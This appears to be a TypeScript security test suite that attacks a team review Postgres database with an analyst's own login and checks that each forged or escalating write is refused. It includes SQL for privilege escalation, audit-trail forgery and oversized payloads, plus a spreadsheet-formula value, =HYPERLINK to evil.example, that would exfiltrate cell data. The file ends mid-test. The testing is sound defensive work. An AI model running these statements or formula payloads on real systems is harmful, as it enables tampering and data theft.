import { createHash } from 'node:crypto';
import { sql } from 'kysely';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { entryHashV2, GENESIS_HASH } from '../../../main/record/audit-chain';
import { walkInThread } from '../../../main/record/chain-walk';
import { recordAuditTrail, type WitnessedHead } from '../../../main/record/audit-records';
import { storeWitness, WITNESS_KEY } from '../../../main/record/trail-witness';
import { recordForApp, reviewRecord } from '../../../main/record/index';
import { openRecord, type OpenRecord } from '../../../main/record/open';
import { MemoryVault } from '../../../main/auth/memory-vault';
import { createLogger } from '../../../main/log';
import { SharedTokenRecords, sealToken, sharingVault } from '../../../main/record/shared-session-tokens';
import { MemoryJsonStore } from '../../helpers/fake-safe-storage';
import { to } from '../../helpers/destinations';
import { startTeamPostgres, TEAM_DATABASE, type TestPostgres } from '../../helpers/postgres';
import { rechainTrail } from '../../helpers/rechain';

/**
 * The team record attacked as a modified client would: psql with an analyst's own password. Set up as an
 * administrator would (docs/team-database.sql: an owner login that migrates, the roles, analysts), then every write in
 * another's name, to another's row, or past a rule, by each role: refused by the database. The legitimate ones pass.
 */
let server: TestPostgres;
const database = TEAM_DATABASE;
const logins: Record<'ana' | 'beto' | 'sofia', OpenRecord> = {} as never;
let owner: pg.Client;
const TEAM_KEY = 'k3JbY1cF0m5dQ9l2yT8xV7wZ4aR6sN0pE1hG3jU5iO8=';
const quiet = createLogger({ sink: () => undefined });
/** A final rejection on `environment`, as the app records one (what is not the point of a test). */
const finalRejection = (environment: string, extra: { reasonCode?: string; reason?: string } = {}) => ({
  decision: 'reject' as const,
  reason: 'x',
  acknowledgedFindings: [],
  decidedAt: '2026-11-25T10:00:00.000Z',
  environment,
  status: 'final' as const,
  ...extra,
});

const as = (user: string, password: string) =>
  openRecord({ kind: 'team', host: server.host, port: server.port, user, database, password, tls: 'disable' });
const raw = (who: keyof typeof logins) => logins[who].db;
/** A session of beto's own, as psql would open it. */
async function betoSession(): Promise<pg.Client> {
  const session = new pg.Client({
    host: server.host,
    port: server.port,
    user: 'beto',
    password: 'change-me-beto',
    database,
  });
  await session.connect();
  return session;
}

beforeAll(async () => {
  ({ server, owner } = await startTeamPostgres());
  logins.ana = await as('ana', 'change-me-ana');
  logins.beto = await as('beto', 'change-me-beto');
  logins.sofia = await as('sofia', 'change-me-sofia');
  // Ana holds i1 and has typed a draft, queued, sealed a token; beto holds i2.
  const ana = reviewRecord(logins.ana);
  await ana.queue.put('production', [
    { interviewId: 'i1', addedAt: '2026-11-25T09:00:00.000Z', localState: 'toReview' },
    { interviewId: 'i2', addedAt: '2026-11-25T09:00:00.000Z', localState: 'toReview' },
  ]);
  await ana.claims.claim('production', 'i1');
  await reviewRecord(logins.beto).claims.claim('production', 'i2');
  await ana.drafts.put('production', 'i1', 'notes', { text: 'ana typed this', updatedAt: '2026-11-25T10:00:00.000Z' });
  await sql`insert into shared_session_tokens (environment, interview_id, sealed) values ('production', 'i1', 'sealed-by-ana')`.execute(
    raw('ana'),
  );
  // A note beto is about to send on what he holds: his to settle with the service's answer.
  await sql`insert into service_writes (environment, interview_id, kind, body, idempotency_key)
    values ('production', 'i2', 'notes', 'a note', 'beto-note-1')`.execute(raw('beto'));
}, 60_000);

afterAll(async () => {
  await Promise.all(Object.values(logins).map((r) => r.close()));
  await owner?.end().catch(() => undefined);
  await server?.stop();
});

const refused =
  /permission denied|violates check constraint|at most 100 saved views|not a login of the team|names its own login|lease of a claim|at most 100 findings|names a decision|goes with a final or confirmed|_not_team|row-level security|held by|not claimed|append-only|kept|own login|must be owner|proposal waiting|decided already|second reviewer|starts pending|changes only|not one of the team|keeps its environment|by the database itself|nests at most|at most 256 KiB|a checkpoint|decision on file|a saved view has|when the decision is recorded|interview_id_shape|_length/;

/** Statements run by a login; each must be refused, or (a quiet RLS filter) change no row. */
const attempts: { who: 'beto' | 'sofia'; what: string; statement: string }[] = [
  // Another's draft: overwritten, removed, or written in her name.
  { who: 'beto', what: "overwrite ana's draft", statement: `update drafts set text = 'beto wrote this'` },
  { who: 'beto', what: "remove ana's draft", statement: `delete from drafts where owner = 'ana'` },
  {
    who: 'beto',
    what: 'write a draft in ana’s name',
    statement: `insert into drafts (environment, interview_id, kind, text, updated_at, owner)
      values ('production', 'i1', 'notes', 'forged', now(), 'ana')`,
  },
  // Another's queue entries and sealed tokens.
  { who: 'beto', what: "remove ana's queue entries", statement: `delete from queue_entries` },
  {
    who: 'beto',
    what: 'add a queue entry in ana’s name',
    statement: `insert into queue_entries (environment, interview_id, added_at, local_state, added_by)
      values ('production', 'x9', now(), 'toReview', 'ana')`,
  },
  // Interview ids no app takes (red team 12: they reached a period's batch, its index and its file names).
  {
    who: 'beto',
    what: 'queue an interview whose id is a spreadsheet formula',
    statement: `insert into queue_entries (environment, interview_id, added_at, local_state)
      values ('production', '=HYPERLINK("https://evil.example/?"&A1)', now(), 'toReview')`,
  },
  {
    who: 'beto',
    what: 'write a trail entry on an interview whose id is a spreadsheet formula',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values (now(), 'production', '=HYPERLINK("https://evil.example/?"&A1)', 'opened', '{}')`,
  },
  {
    who: 'beto',
    what: 'claim an interview whose id climbs out of a folder',
    statement: `insert into claims (environment, interview_id, expires_at) values ('production', '../../x', now() + interval '1 hour')`,
  },
  // Texts past what the app takes (red team 15: 2,400 proposals with 250 KB reasons, a Team overview of 600 MB).
  {
    who: 'beto',
    what: 'propose a decision on what he holds with a reason of 5,000 characters',
    statement: `insert into decisions (environment, interview_id, decision, reason, acknowledged_findings, decided_at, status)
      values ('production', 'i2', 'reject', repeat('x', 5000), '[]', now(), 'proposed')`,
  },
  {
    who: 'beto',
    what: 'settle a write of his as refused with an answer of 1 MB',
    statement: `update service_writes set state = 'refused', answer = to_jsonb(repeat('A', 1000000))
      where written_by = 'beto'`,
  },
  {
    who: 'beto',
    what: 'type a draft of 25,000 characters on what he holds',
    statement: `insert into drafts (environment, interview_id, kind, text, updated_at)
      values ('production', 'i2', 'notes', repeat('x', 25000), now())`,
  },
  { who: 'beto', what: "overwrite ana's sealed token", statement: `update shared_session_tokens set sealed = 'mine'` },
  { who: 'beto', what: "remove ana's sealed token", statement: `delete from shared_session_tokens` },
  // Decisions on what another holds, and past the rules.
  {
    who: 'beto',
    what: 'decide what ana holds',
    statement: `insert into decisions (environment, interview_id, decision, reason, acknowledged_findings, decided_at)
      values ('production', 'i1', 'reject', 'x', '[]', now())`,
  },
  {
    who: 'sofia',
    what: 'a supervisor decides what ana holds',
    statement: `insert into decisions (environment, interview_id, decision, reason, acknowledged_findings, decided_at)
      values ('production', 'i1', 'approve', 'x', '[]', now())`,
  },
  {
    who: 'beto',
    what: 'decide what nobody holds',
    statement: `insert into decisions (environment, interview_id, decision, reason, acknowledged_findings, decided_at)
      values ('production', 'free', 'reject', 'x', '[]', now())`,
  },
  {
    who: 'beto',
    what: 'a lone final approval with no reading on file (empty findings written)',
    statement: `insert into decisions (environment, interview_id, decision, reason, acknowledged_findings, decided_at)
      values ('production', 'i2', 'approve', 'x', '[]', now())`,
  },
  // Writes to the service in another's name, or about what another holds.
  {
    who: 'beto',
    what: 'record a note on what ana holds',
    statement: `insert into service_writes (environment, interview_id, kind, body, idempotency_key)
      values ('production', 'i1', 'notes', 'x', 'k1')`,
  },
  {
    who: 'beto',
    what: 'record a note in ana’s name',
    statement: `insert into service_writes (environment, interview_id, kind, body, idempotency_key, written_by)
      values ('production', 'i2', 'notes', 'x', 'k2', 'ana')`,
  },
  {
    who: 'beto',
    what: 'record a note as already sent',
    statement: `insert into service_writes (environment, interview_id, kind, body, idempotency_key, state)
      values ('production', 'i2', 'notes', 'x', 'k3', 'sent')`,
  },
  // Risk readings: in another's name, changed, removed.
  {
    who: 'beto',
    what: 'a risk reading in ana’s name',
    statement: `insert into risk_readings (environment, interview_id, level, read_by) values ('production', 'i2', 'low', 'ana')`,
  },
  { who: 'beto', what: 'change a risk reading', statement: `update risk_readings set level = 'low'` },
  { who: 'beto', what: 'remove risk readings', statement: `delete from risk_readings` },
  // The audit trail: the chain's fields sent, an entry changed or removed, the trail emptied.
  {
    who: 'beto',
    what: 'an audit entry with its own seq, prev_hash and hash',
    statement: `insert into audit_entries (seq, at, environment, action, detail, prev_hash, hash)
      values (999, 'x', 'production', 'opened', '{}', 'x', 'forged')`,
  },
  {
    who: 'beto',
    what: 'an audit entry in ana’s name',
    statement: `insert into audit_entries (at, environment, action, detail, actor) values ('x', 'production', 'opened', '{}', 'ana')`,
  },
  { who: 'sofia', what: 'change an audit entry', statement: `update audit_entries set action = 'forged'` },
  { who: 'sofia', what: 'remove audit entries', statement: `delete from audit_entries` },
  { who: 'sofia', what: 'empty the trail', statement: `truncate audit_entries` },
  // The owner's powers: not a day-to-day login's.
  {
    who: 'sofia',
    what: 'disable the append-only trigger',
    statement: `alter table audit_entries disable trigger user`,
  },
  { who: 'beto', what: 'drop a policy', statement: `drop policy drafts_seen on drafts` },
  { who: 'beto', what: 'become the owner', statement: `set role omni_owner` },
  {
    who: 'sofia',
    what: 'change the rules of four eyes',
    statement: `create or replace function omni_may(power text) returns boolean language sql as $$ select true $$`,
  },
  // The team's rules: a reviewer's, not.
  { who: 'beto', what: "set the team's rules", statement: `update team_settings set four_eyes = 'none'` },
  // The team's reason codes: a supervisor's list; retired, never removed; a decision's code is the team's, once.
  {
    who: 'beto',
    what: 'add a reason code',
    statement: `insert into reason_codes (decision, code, label_en, label_es) values ('reject', 'beto_says', 'x', 'x')`,
  },
  { who: 'beto', what: 'relabel a reason code', statement: `update reason_codes set label_en = 'Anything goes'` },
  { who: 'beto', what: 'retire the reason codes', statement: `update reason_codes set active = false` },
  { who: 'beto', what: 'remove a reason code', statement: `delete from reason_codes where code = 'underage'` },
  { who: 'sofia', what: 'a supervisor removes a reason code', statement: `delete from reason_codes` },
  {
    who: 'beto',
    what: 'decide what he holds with a code the team does not have',
    statement: `insert into decisions (environment, interview_id, decision, reason, acknowledged_findings, decided_at,
      reason_code) values ('production', 'i2', 'reject', 'x', '[]', now(), 'made_up')`,
  },
  {
    who: 'beto',
    what: 'decide what he holds with a code of another kind of decision',
    statement: `insert into decisions (environment, interview_id, decision, reason, acknowledged_findings, decided_at,
      reason_code) values ('production', 'i2', 'reject', 'x', '[]', now(), 'glare')`,
  },
  { who: 'sofia', what: "change a decision's reason code", statement: `update decisions set reason_code = 'underage'` },
  // A write tied to a decision it is not the note of: removing that decision (the demo's is anyone's to reset) would
  // take the write with it; or the note of a proposal, sent before the second review.
  {
    who: 'beto',
    what: 'a note tied to a decision',
    statement: `insert into service_writes (environment, interview_id, kind, body, idempotency_key, decision_id)
      values ('production', 'i2', 'notes', 'x', 'tied', -1)`,
  },
  {
    who: 'beto',
    what: 'a decision note for a decision that is not his',
    statement: `insert into service_writes (environment, interview_id, kind, body, idempotency_key, decision_id)
      values ('production', 'i2', 'decision', 'Approved', 'not-his', -1)`,
  },
  // The environment that files the whole team's entries is no interview's.
  {
    who: 'beto',
    what: "a queue entry in the team's own environment",
    statement: `insert into queue_entries (environment, interview_id, added_at, local_state)
      values ('team', 'x', now(), 'toReview')`,
  },
  // Ana's live claim ended (or stretched) without changing hands: a release the trail would not show.
  {
    who: 'sofia',
    what: "end ana's claim by its lease",
    statement: `update claims set expires_at = '2000-01-01' where holder = 'ana'`,
  },
  // A reading whose findings no screen can show, kept forever.
  {
    who: 'beto',
    what: 'a risk reading nested 5,000 levels deep',
    statement: `insert into risk_readings (environment, interview_id, level, high_findings)
      values ('production', 'i2', 'high', (repeat('[', 5000) || repeat(']', 5000))::jsonb)`,
  },
  // Ana's queue entry moved where anyone removes it unrecorded (the demo's), or renamed out of her queue.
  {
    who: 'beto',
    what: "move ana's queue entry to the demo environment",
    statement: `update queue_entries set environment = 'demo' where interview_id = 'i1'`,
  },
  {
    who: 'beto',
    what: "move ana's queue entry there through an upsert",
    statement: `insert into queue_entries (environment, interview_id, added_at, local_state) values ('production', 'i1',
      now(), 'toReview') on conflict (environment, interview_id) do update set environment = 'demo'`,
  },
  { who: 'beto', what: "rename ana's queue entry", statement: `update queue_entries set interview_id = 'gone'` },
  // The entries only the database writes (a power used), sent by a client in its own words.
  {
    who: 'beto',
    what: 'a change of the team’s rules that did not happen',
    statement: `insert into audit_entries (at, environment, action, detail)
      values ('x', 'team', 'teamSettingsChanged', '{"fourEyes": "none"}')`,
  },
  {
    who: 'beto',
    what: 'a release of another’s claim that did not happen',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', 'production', 'i1', 'released', '{"of": "ana"}')`,
  },
  {
    who: 'beto',
    what: 'a hand-over that did not happen',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', 'production', 'i1', 'reassigned', '{"to": "beto"}')`,
  },
  // Entries no screen can show: nested thousands deep, or huge. Each would stay on the trail forever.
  {
    who: 'beto',
    what: 'an entry nested 5,000 levels deep',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', 'production', 'i2', 'opened', (repeat('[', 5000) || repeat(']', 5000))::json)`,
  },
  {
    who: 'beto',
    what: 'an entry of 300 KiB',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', 'production', 'i2', 'opened', json_build_object('text', repeat('x', 300 * 1024)))`,
  },
  // The queue's state as no fact says: out of "Take next" and the figures with no decision, or moved under a holder.
  {
    who: 'beto',
    what: 'mark what he holds decided with no decision on file',
    statement: `update queue_entries set local_state = 'decided' where interview_id = 'i2'`,
  },
  {
    who: 'beto',
    what: 'add a queue entry already decided',
    statement: `insert into queue_entries (environment, interview_id, added_at, local_state)
      values ('production', 'x8', now(), 'decided')`,
  },
  {
    who: 'beto',
    what: 'change the state of what ana holds',
    statement: `update queue_entries set local_state = 'inReview' where interview_id = 'i1'`,
  },
  // A decision's entries, which the database writes as it records the decision: not a client's to send.
  {
    who: 'beto',
    what: 'a decision of ana’s interview that nobody made',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', 'production', 'i1', 'decided', '{"decision": "approve"}')`,
  },
  {
    who: 'beto',
    what: 'a confirmation that nobody made',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', 'production', 'i1', 'confirmed', '{"decision": "approve"}')`,
  },
  // A shared view every analyst's app reads: megabytes of filters, or a name no screen shows whole.
  {
    who: 'beto',
    what: 'a shared view of 20 MB',
    statement: `insert into saved_views (name, filter, shared)
      values ('big', json_build_object('q', repeat('x', 20 * 1024 * 1024)), true)`,
  },
  {
    who: 'beto',
    what: 'a view named in a thousand characters',
    statement: `insert into saved_views (name, filter) values (repeat('n', 1000), '{}')`,
  },
  // Checkpoints that would stop the next ones being taken, or raise a false alarm in every app.
  {
    who: 'beto',
    what: 'a checkpoint that names its entry as text',
    statement: `insert into audit_entries (at, environment, action, detail) values ('x', 'production', 'checkpoint',
      '{"seq": "2147483647", "hash": "x", "statement": 2, "from": "x", "folio": "x", "token": "x"}')`,
  },
  {
    who: 'beto',
    what: 'a checkpoint of an entry not on the trail yet',
    statement: `insert into audit_entries (at, environment, action, detail) values ('x', 'production', 'checkpoint',
      '{"seq": 2147483647, "hash": "x", "statement": 2, "from": 1, "folio": "x", "token": "x"}')`,
  },
  {
    who: 'beto',
    what: 'a checkpoint of the first entry by another hash',
    statement: `insert into audit_entries (at, environment, action, detail) values ('x', 'production', 'checkpoint',
      '{"seq": 1, "hash": "${'0'.repeat(64)}", "statement": 2, "from": 1, "folio": "x", "token": "x"}')`,
  },
  // Red team 17: what a client writes that the screens, the reports and the rules read as facts.
  {
    who: 'beto',
    what: 'a note on the trail “sent by ana” that nobody sent',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', 'production', 'i1', 'noted', '{"text": "identity confirmed by phone", "by": "ana"}')`,
  },
  {
    who: 'beto',
    what: 'a note on the trail in his own name with no write to the service behind it',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', 'production', 'i2', 'named', '{"text": "Juan Pérez", "by": "beto"}')`,
  },
  {
    who: 'beto',
    what: 'any entry naming ana as who did it',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', 'production', 'i2', 'downloaded', '{"what": "evidenceFile", "purpose": "x", "by": "ana"}')`,
  },
  {
    who: 'beto',
    what: 'an entry whose action is 200,000 characters',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', 'production', 'i2', repeat('a', 200000), '{}')`,
  },
  {
    who: 'beto',
    what: 'an entry whose environment is 10,000 characters',
    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
      values ('x', repeat('e', 10000), 'i2', 'opened', '{}')`,
  },
  {
    who: 'beto',
    what: 'a lone final “Approve” (a spelling four eyes does not know) on what he holds',
    statement: `insert into decisions (environment, interview_id, decision, reason, acknowledged_findings, decided_at)
      values ('production', 'i2', 'Approve', 'x', '[]', now())`,
  },
  {
    who: 'beto',
    what: 'a decision whose acknowledged findings are not a list',
    statement: `insert into decisions (environment, interview_id, decision, reason, acknowledged_findings, decided_at)
      values ('production', 'i2', 'reject', 'x', '"x"', now())`,
  },
  {
    who: 'beto',
    what: 'a write to the service with a key of 100,000 characters',
    statement: `insert into service_writes (environment, interview_id, kind, body, idempotency_key)
      values ('production', 'i2', 'notes', 'x', repeat('k', 100000))`,
  },
  {
    who: 'beto',
    what: 'a queue entry added at -infinity',
    statement: `insert into queue_entries (environment, interview_id, added_at, local_state)
      values ('production', 'x7', '-infinity', 'toReview')`,
  },
  {
    who: 'beto',
    what: 'every entry last opened at -infinity',
    statement: `update queue_entries set last_opened_at = '-infinity'`,
  },
  {
    who: 'beto',
    what: 'a queue state no screen knows',
    statement: `update queue_entries set local_state = 'parked' where interview_id = 'i2'`,
  },
  {
    who: 'beto',
    what: 'his claim lasting until -infinity',
    statement: `update claims set expires_at = '-infinity' where holder = 'beto'`,
  },
  {
    who: 'beto',
    what: '101 saved views',
    statement: `insert into saved_views (name, filter, shared) select 'v' || g, '{}', true from generate_series(1, 101) g`,
  },
  {
    who: 'sofia',
    what: 'hand ana’s claim to a look-alike of her name (Cyrillic а)',
    statement: `update claims set holder = 'аna' where interview_id = 'i1'`,
  },
  {
    who: 'sofia',
    what: 'hand ana’s claim to the server’s superuser (every role’s member)',
    statement: `update claims set holder = 'postgres' where interview_id = 'i1'`,
  },
  {
    who: 'sofia',
    what: 'hand ana’s claim to a name that is no login',
    statement: `update claims set holder = 'nobody' where interview_id = 'i1'`,
  },
];

describe('the team record, attacked with an analyst’s own login', () => {
  it.each(attempts)('$who: $what — refused', async ({ who, statement }) => {
    const outcome = await sql
      .raw(statement)
      .execute(raw(who))
      .then(
        (result) => ({ rows: result.numAffectedRows ?? 0n }),
        (error: Error) => ({ error: error.message }),
      );
    if ('error' in outcome) expect(outcome.error).toMatch(refused);
    else expect(outcome.rows).toBe(0n);
  });

  it('lets no login store large objects, storage outside the record no rule holds (docs/team-database.sql)', async () => {
    for (const statement of [`select lo_from_bytea(0, 'filler')`, `select lo_create(0)`, `select lo_creat(-1)`])
      await expect(sql.raw(statement).execute(raw('beto'))).rejects.toThrow(/permission denied for function lo_/);
    expect((await sql`select count(*)::int as n from pg_largeobject_metadata`.execute(raw('beto'))).rows).toEqual([
      { n: 0 },
    ]);
  });

  it('lets no login make temporary objects: a table named like the catalog, or one whose trigger writes the entries only the database writes', async () => {
    // A session of its own, as psql would be.
    const session = await betoSession();
    try {
      const attempt = (text: string) =>
        session.query(text).then(
          () => 'accepted',
          (e: Error) => e.message,
        );
      // "I am a superuser", "I hold it": tables that would stand in for the real ones.
      expect(
        await attempt(`create temporary table pg_roles as select 'beto'::name as rolname, true as rolsuper`),
      ).toMatch(/permission denied to create temporary tables/);
      expect(await attempt(`create temporary table claims (holder text)`)).toMatch(/permission denied/);
      // A trigger of his own one level down, where the trail takes what it inserts for the database's own entry.
      expect(
        await attempt(`create function pg_temp.forward() returns trigger language plpgsql as $$ begin
          insert into public.audit_entries (at, environment, action, detail)
          values ('x', 'team', 'teamSettingsChanged', '{"fourEyes": "none"}'); return null; end $$`),
      ).toMatch(/permission denied/);
    } finally {
      await session.end();
    }
    expect(
      await raw('ana').selectFrom('audit_entries').select('seq').where('environment', '=', 'team').execute(),
    ).toEqual([]);
  });

  it('takes none of the database’s own entries from a login given the right to make temporary objects again', async () => {
    await server.asSuperuser(database, `grant temporary on database ${database} to beto`);
    const session = await betoSession();
    try {
      await session.query(`create temporary table t (x int)`);
      await session.query(`create function pg_temp.forge() returns trigger language plpgsql as $$ begin
        insert into public.audit_entries (at, environment, interview_id, action, detail)
        values ('x', 'production', 'i1', 'reassigned', '{"to": "beto", "of": "ana"}'); return null; end $$`);
      await session.query(`create trigger forge after insert on t for each row execute function pg_temp.forge()`);
      await expect(session.query(`insert into t values (1)`)).rejects.toThrow(
        /beto may create objects of its own in omni_review, so the database cannot tell its own entries/,
      );
    } finally {
      await session.end();
      await server.asSuperuser(database, `revoke temporary on database ${database} from beto`);
    }
    expect(
      await raw('ana').selectFrom('audit_entries').select('seq').where('action', '=', 'reassigned').execute(),
    ).toEqual([]);
  });

  it('will not migrate a database whose logins keep the right to make temporary objects, and says how to take it', async () => {
    // The tables' owner is not the database's here, so it cannot take the right from PUBLIC itself.
    const notOwned = await server.createDatabase('not_owned');
    const superuser = new pg.Client({ host: server.host, port: server.port, user: 'postgres', database: notOwned });
    await superuser.connect();
    await superuser.query('grant create on schema public to omni_owner');
    await superuser.end();
    await expect(
      openRecord({
        kind: 'team',
        host: server.host,
        port: server.port,
        user: 'omni_owner',
        database: notOwned,
        password: 'change-me-owner',
        tls: 'disable',
      }),
    ).rejects.toMatchObject({
      data: {
        code: 'RECORD_TEMPORARY_GRANTED',
        message: { en: expect.stringMatching(/team database not_owned may create temporary tables/) },
        advice: {
          en: expect.stringContaining('REVOKE TEMPORARY ON DATABASE not_owned FROM PUBLIC'),
          es: expect.stringContaining('REVOKE TEMPORARY ON DATABASE not_owned FROM PUBLIC'),
        },
      },
    });
  });

  it('starts while a login holds the migrator’s lock: a database up to date takes none', async () => {
    // Kysely's lock (any login may take an advisory lock): every app's start had waited on it, up to an hour.
    const session = await betoSession();
    try {
      await session.query('select pg_advisory_lock(3853314791062309107)');
      const started = await Promise.race([
        as('ana', 'change-me-ana').then(async (r) => (await r.close(), 'started')),
        new Promise((resolve) => setTimeout(resolve, 10_000, 'waited')),
      ]);
      expect(started).toBe('started');
    } finally {
      await session.end();
    }
  });

  it('ends any login’s transaction left idle after five minutes (docs/team-database.sql), this app’s after one', async () => {
    // A psql session left at BEGIN holds what it took until then; the database's default ends it (a login may SET
    // it off for its own sessions: that is denial of service, seen in pg_stat_activity).
    const session = await betoSession();
    try {
      expect((await session.query('show idle_in_transaction_session_timeout')).rows[0]).toEqual({
        idle_in_transaction_session_timeout: '5min',
      });
    } finally {
      await session.end();
    }
    expect(
      (await sql<{ t: string }>`select current_setting('idle_in_transaction_session_timeout') as t`.execute(raw('ana')))
        .rows[0],
    ).toEqual({ t: '1min' });
  });

  it('runs every function of its schema with a pinned search path, none a definer’s rights', async () => {
    // A function a later migration adds without pinSearchPath would read a session's temporary tables, were a login
    // ever given the right to make them again (test above).
    const { rows } = await sql<{ name: string; config: string[] | null; definer: boolean }>`
      select p.oid::regprocedure::text as name, p.proconfig as config, p.prosecdef as definer
      from pg_proc p where p.pronamespace = current_schema()::regnamespace order by 1`.execute(raw('beto'));
    expect(rows.length).toBeGreaterThan(20);
    expect(
      rows.filter((r) => r.definer || !r.config?.some((c) => /^search_path=pg_catalog, "?public"?, pg_temp$/.test(c))),
    ).toEqual([]);
  });

  it('holds against a login acting as a group role, and against a transaction reading an older snapshot', async () => {
    const session = await betoSession();
    const attempt = (text: string) =>
      session.query(text).then(
        () => 'accepted',
        (e: Error) => e.message,
      );
    try {
      // As the group: written in nobody's name, and no longer "beto" when he comes back to confirm it.
      await session.query('set role omni_reviewer');
      expect(
        await attempt(`insert into claims (environment, interview_id, expires_at)
          values ('production', 'g1', now() + interval '10 minutes')`),
      ).toMatch(/written by each login as itself: beto is acting as omni_reviewer/);
      expect(
        await attempt(`insert into audit_entries (at, environment, interview_id, action, detail)
          values ('x', 'production', 'g1', 'opened', '{}')`),
      ).toMatch(/as itself/);
      await session.query('reset role');
      // A snapshot from before a claim was taken (or a decision made, or a rule changed) judges by what it saw.
      await session.query('begin isolation level repeatable read');
      await session.query('select count(*) from claims');
      expect(
        await attempt(`insert into decisions (environment, interview_id, decision, reason, acknowledged_findings,
          decided_at) values ('production', 'i2', 'reject', 'x', '[]', now())`),
      ).toMatch(/READ COMMITTED transactions only \(this one is repeatable read\)/);
      await session.query('rollback');
      await session.query('begin isolation level serializable');
      expect(
        await attempt(`insert into audit_entries (at, environment, interview_id, action, detail)
          values ('x', 'production', 'i2', 'opened', '{}')`),
      ).toMatch(/READ COMMITTED/);
      await session.query('rollback');
    } finally {
      await session.end();
    }
    expect(await raw('ana').selectFrom('claims').select('holder').where('interview_id', '=', 'g1').execute()).toEqual(
      [],
    );
  });

  it('leaves ana’s rows as they were after every attempt', async () => {
    const ana = reviewRecord(logins.ana);
    expect((await ana.drafts.get('production', 'i1')).notes?.text).toBe('ana typed this');
    expect((await ana.queue.list('production')).map((e) => e.interviewId).sort()).toEqual(['i1', 'i2']);
    // Who added an entry stays as the database wrote it, whatever an update says.
    await sql`update queue_entries set added_by = 'beto'`.execute(raw('beto'));
    expect(await raw('ana').selectFrom('queue_entries').select('added_by').distinct().execute()).toEqual([
      { added_by: 'ana' },
    ]);
    const token = await raw('ana').selectFrom('shared_session_tokens').select(['sealed', 'sealed_by']).execute();
    expect(token).toEqual([{ sealed: 'sealed-by-ana', sealed_by: 'ana' }]);
    expect(await raw('ana').selectFrom('decisions').select('id').execute()).toEqual([]);
    expect(
      await raw('ana').selectFrom('service_writes').select('written_by').distinct().execute(),
      'writes to the service: beto’s own note only',
    ).toEqual([{ written_by: 'beto' }]);
  });

  it('accepts the legitimate ones: the holder decides once, a supervisor releases and another takes it over', async () => {
    const ana = reviewRecord(logins.ana);
    const beto = reviewRecord(logins.beto);
    const sofia = reviewRecord(logins.sofia);
    // Beto's own draft, beside ana's: each reads their own.
    await beto.drafts.put('production', 'i1', 'notes', { text: 'beto’s own', updatedAt: '2026-11-25T10:05:00.000Z' });
    expect((await beto.drafts.get('production', 'i1')).notes?.text).toBe('beto’s own');
    expect((await ana.drafts.get('production', 'i1')).notes?.text).toBe('ana typed this');

    // A reading that said high stays on file: a later "low" by someone else does not make a lone approval final.
    await ana.readings.add('production', 'i1', 'high', ['checkFraudRisk (HIGH, 0.91)']);
    await beto.readings.add('production', 'i1', 'low', []);
    const approval = {
      decision: 'approve' as const,
      reason: 'ok',
      acknowledgedFindings: [],
      decidedAt: '2026-11-25T10:10:00.000Z',
      environment: 'production',
    };
    await expect(ana.decisions.add('i1', { ...approval, status: 'final' })).rejects.toMatchObject({
      data: { code: 'SECOND_REVIEW_REQUIRED' },
    });
    await ana.decisions.add('i1', { ...approval, status: 'proposed' });
    // No final decision while the proposal waits, and no second proposal.
    await expect(ana.decisions.add('i1', { ...approval, decision: 'reject', status: 'final' })).rejects.toMatchObject({
      data: { code: 'PROPOSAL_WAITING' },
    });

    // Beto cannot confirm what ana holds; the supervisor releases ana's claim (her listed power), then beto takes it.
    await expect(beto.decisions.review('production', 'i1', 'confirmed', 'ok', () => 'n')).rejects.toMatchObject({
      data: { code: 'CLAIMED_BY_OTHER', message: { en: expect.stringMatching(/^Held by ana since \d\d:\d\d/) } },
    });
    expect(await beto.claims.release('production', 'i1')).toBe(false);
    expect(await beto.claims.release('production', 'i1', true)).toBe(false);
    expect(await sofia.claims.release('production', 'i1', true)).toBe(true);
    await beto.claims.claim('production', 'i1');
    const { write } = await beto.decisions.review('production', 'i1', 'confirmed', 'Checked', () => 'note');
    expect(write).toBeDefined();
    // Settled by its writer only; once sent, it stays sent.
    await ana.writes.settle(write!.id, 'refused', { forged: true });
    expect(await beto.writes.unsent('production', 'i1', 'decision')).toEqual(write);
    await beto.writes.settle(write!.id, 'sent', { success: true });
    await expect(beto.writes.settle(write!.id, 'refused', {})).rejects.toThrow(/stays taken/);

    // Decided: no second final decision, by anyone holding it.
    await expect(beto.decisions.add('i1', { ...approval, decision: 'reject', status: 'final' })).rejects.toMatchObject({
      data: { code: 'ALREADY_DECIDED' },
    });
  });

  it('takes two final decisions made at the same moment one after the other: one is recorded, the other refused', async () => {
    // Two windows of ana's (or a modified client racing itself): both see no decision yet, both insert.
    const second = await as('ana', 'change-me-ana');
    try {
      await reviewRecord(logins.ana).claims.claim('production', 'race-1');
      const decision = {
        reason: 'at once',
        acknowledgedFindings: [],
        decidedAt: '2026-11-25T10:10:00.000Z',
        environment: 'production',
        status: 'final' as const,
      };
      const results = await Promise.allSettled([
        reviewRecord(logins.ana).decisions.add('race-1', { ...decision, decision: 'reject' }),
        reviewRecord(second).decisions.add('race-1', { ...decision, decision: 'requestNewCapture' }),
      ]);
      expect(results.map((r) => r.status).sort()).toEqual(['fulfilled', 'rejected']);
      expect(results.find((r) => r.status === 'rejected')).toMatchObject({
        reason: { data: { code: 'ALREADY_DECIDED' } },
      });
      expect(await reviewRecord(logins.ana).decisions.all('production', 'race-1')).toHaveLength(1);
    } finally {
      await second.close();
    }
  });

  it('lets a supervisor change the reason codes and a reviewer decide with them; a reviewer changes none', async () => {
    const beto = reviewRecord(logins.beto);
    const sofia = reviewRecord(logins.sofia);
    const codes = await beto.teamSettings.reasonCodes();
    const relabelled = codes.map((c) => (c.code === 'underage' ? { ...c, en: 'Under 18' } : c));
    await expect(beto.teamSettings.setReasonCodes(relabelled)).rejects.toMatchObject({
